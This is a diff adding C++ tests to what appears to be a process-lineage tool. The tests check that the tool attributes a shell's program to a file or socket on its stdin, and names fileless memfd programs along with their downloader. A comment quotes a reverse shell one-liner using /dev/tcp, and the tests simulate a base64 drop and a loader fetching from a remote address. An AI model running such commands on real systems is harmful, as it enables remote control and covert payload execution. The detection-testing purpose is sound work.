@@ -4,6 +4,10 @@
 // argv[1] that is data (not a script interpreter's) is no program.
 #include <fcntl.h>
 #include <gtest/gtest.h>
+#include <sys/stat.h>
+
+#include <cstdio>
+#include <cstring>
 
 #include "lineage_world.h"
 #include "script_rule.h"
@@ -200,6 +204,101 @@ TEST(Programs, AScriptPipedIntoAShellIsItsProgram) {
     EXPECT_EQ(r.text.find("program pipe:[901]"), std::string::npos) << r.text;
     EXPECT_EQ(r.text.find("/lineage-test-nowhere/hosts"), std::string::npos) << r.text;
   }
+}
+
+// `sh < drop.sh` and a reverse shell (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): a shell given
+// no script runs what it reads on its stdin, a file or a socket there (events.h v8: what fd
+// 0 is at the exec). Given a command (`sh -c CMD < data`), what it reads there is data.
+TEST(Programs, AFileOrSocketOnAShellsStdinIsItsProgram) {
+  for (bool command : {false, true}) {
+    for (bool socket : {false, true}) {
+      SCOPED_TRACE(std::string(command ? "sh -c CMD" : "sh") + (socket ? " on a socket" : ""));
+      TempDir dir;
+      World w(dir.path() + "/prov.db");
+      auto sh = w.setup({{10, "key.txt"}});
+      made_by(w, sh, 150, {"base64", "-d", "/lineage-test-nowhere/drop.b64"}, kScript, 7001);
+      if (!socket) w.open_outside(sh, kScript, 7001, O_RDONLY);  // the redirection `< drop.sh`
+      World::Proc shell = w.fork(sh, 200);
+      bento_exec_event e =
+          w.exec_event(shell, "/usr/bin/sh",
+                       command ? std::vector<std::string>{"sh", "-c", "tar cf out key.txt"}
+                               : std::vector<std::string>{"sh"});
+      e.stdin_mode = socket ? S_IFSOCK : S_IFREG;
+      e.stdin_dev = socket ? 0x9 : 0x803;
+      e.stdin_ino = socket ? 5555 : 7001;
+      w.send_exec(e);
+      if (socket) {
+        w.tcp_recv_remote(shell, 5555, /*fd=*/0, 4444);
+        w.tcp_recv_remote(shell, 5556, /*fd=*/3, 4445);  // another socket: data
+      } else {
+        w.file_io(shell, 7001, /*write=*/false, 0x803, /*fd=*/0);
+      }
+      auto tar = w.run(shell, 201, {"tar", "cf", path("out"), path("key.txt")});
+      w.read(201, 10);
+      w.write_new(201, 12, "out");
+      w.exit(tar);
+      w.exit(shell);
+      w.commit();
+      auto r = why(*w.db, path("out"));
+      ASSERT_TRUE(r.found) << r.message;
+      if (socket) {
+        EXPECT_EQ(r.text.find("program tcp 203.0.113.5:4444") != std::string::npos, !command)
+            << r.text;
+        EXPECT_EQ(r.text.find("4445"), std::string::npos) << r.text;
+      } else {
+        EXPECT_EQ(r.text.find(std::string("program ") + kScript) != std::string::npos, !command)
+            << r.text;
+        EXPECT_EQ(
+            r.text.find("written by base64 -d /lineage-test-nowhere/drop.b64") != std::string::npos,
+            !command)
+            << r.text;
+      }
+    }
+  }
+}
+
+// A fileless program: a loader writes a memfd and runs it by its descriptor (fexecve:
+// "/proc/self/fd/3"). The collector must not resolve that name as its own descriptor: the
+// probes send the memfd's name (events.h v8), and the answer lists it as the program with
+// who wrote it. The same for `/proc/self/exe` (runc re-running itself as `init`).
+TEST(Programs, AFilelessProgramIsNamedAndListedWithItsWriter) {
+  TempDir dir;
+  World w(dir.path() + "/prov.db");
+  auto sh = w.setup({{10, "key.txt"}});
+  World::Proc loader = w.run(sh, 200, {"loader", "http://203.0.113.5/x"});
+  w.tcp_recv_remote(loader, 5555, 3, 443);                         // what it downloaded
+  w.file_io(loader, 7010, /*write=*/true, /*dev=*/0x5, /*fd=*/4);  // into the memfd
+  bento_exec_event e = w.exec_event(loader, "/proc/self/fd/4", {"kworker", path("key.txt")});
+  e.exe_dev = 0x5;
+  e.exe_ino = 7010;
+  std::snprintf(e.exe_path, sizeof e.exe_path, "memfd:x");
+  e.exe_path_len = 7;
+  w.send_exec(e);
+  w.read(200, 10);
+  w.write_new(200, 12, "out");
+  w.exit(loader);
+  // `/proc/self/exe`: the program it runs is the probes' path, placed on this host.
+  struct stat root {};
+  ASSERT_EQ(stat("/", &root), 0);
+  World::Proc again = w.fork(sh, 300);
+  bento_exec_event s = w.exec_event(again, "/proc/self/exe", {"init"});
+  s.exe_dev = root.st_dev;
+  std::snprintf(s.exe_path, sizeof s.exe_path, "/lineage-test-nowhere/runc");
+  s.exe_path_len = static_cast<uint32_t>(std::strlen(s.exe_path));
+  w.send_exec(s);
+  w.read(300, 10);
+  w.write_new(300, 13, "out2");
+  w.exit(again);
+  w.commit();
+  auto r = why(*w.db, path("out"));
+  ASSERT_TRUE(r.found) << r.message;
+  EXPECT_NE(r.text.find("[exe memfd:x]"), std::string::npos) << r.text;
+  EXPECT_NE(r.text.find("program memfd:x"), std::string::npos) << r.text;
+  EXPECT_NE(r.text.find("written by loader http://203.0.113.5/x"), std::string::npos) << r.text;
+  EXPECT_NE(r.text.find("tcp 203.0.113.5:443"), std::string::npos) << r.text;
+  auto r2 = why(*w.db, path("out2"));
+  ASSERT_TRUE(r2.found) << r2.message;
+  EXPECT_NE(r2.text.find("[exe /lineage-test-nowhere/runc]"), std::string::npos) << r2.text;
 }
 
 TEST(Programs, TheScriptRuleKnowsInterpretersScriptsAndCommands) {
